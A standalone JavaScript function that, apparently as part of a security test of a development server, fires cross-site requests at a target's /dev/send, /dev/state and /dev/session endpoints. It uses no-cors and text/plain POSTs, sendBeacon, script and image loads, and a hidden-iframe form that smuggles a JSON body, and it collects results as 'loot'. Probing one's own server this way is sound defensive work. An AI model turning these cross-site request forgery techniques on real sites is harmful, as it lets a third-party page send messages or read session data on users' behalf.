async (target) => {
  const loot = [];
  const body = '{"phone":"1","kind":"text","body":"from another site"}';
  const read = async (name, init, path) => {
    try {
      const response = await fetch(target + path, init);
      const text = await response.text();
      if (text) loot.push(name + ' read ' + text);
    } catch {}
  };
  await read('text', { method: 'POST', body, headers: { 'Content-Type': 'text/plain' } }, '/dev/send');
  await read('simple', { method: 'POST', body, mode: 'no-cors' }, '/dev/send');
  await read('json', { method: 'POST', body, headers: { 'Content-Type': 'application/json' } }, '/dev/send');
  await read('blob', { method: 'POST', body: new Blob([body]), mode: 'no-cors' }, '/dev/send');
  await read('state', {}, '/dev/state');
  await read('session', { mode: 'no-cors' }, '/dev/session?phone=1');
  navigator.sendBeacon(target + '/dev/send', body);
  const settled = (node) => new Promise((resolve) => {
    node.onload = () => resolve('loaded');
    node.onerror = () => resolve('failed');
    setTimeout(() => resolve('silent'), 2000);
    document.body.append(node);
  });
  for (const [tag, props] of [['script', { src: target + '/dev/page.js' }], ['script', { src: target + '/dev/state' }], ['img', { src: target + '/dev/icon.svg' }]]) {
    const outcome = await settled(Object.assign(document.createElement(tag), props));
    if (outcome === 'loaded') loot.push(tag + ' loaded ' + props.src);
  }
  const frame = Object.assign(document.createElement('iframe'), { name: 'frame' });
  document.body.append(frame);
  const form = Object.assign(document.createElement('form'), { action: target + '/dev/send', method: 'post', enctype: 'text/plain', target: 'frame' });
  form.append(Object.assign(document.createElement('input'), { name: '{"phone":"1","kind":"text","body":"', value: '"}' }));
  document.body.append(form);
  const sent = new Promise((resolve) => { frame.onload = resolve; });
  form.submit();
  await sent;
  frame.remove();
  return loot;
}
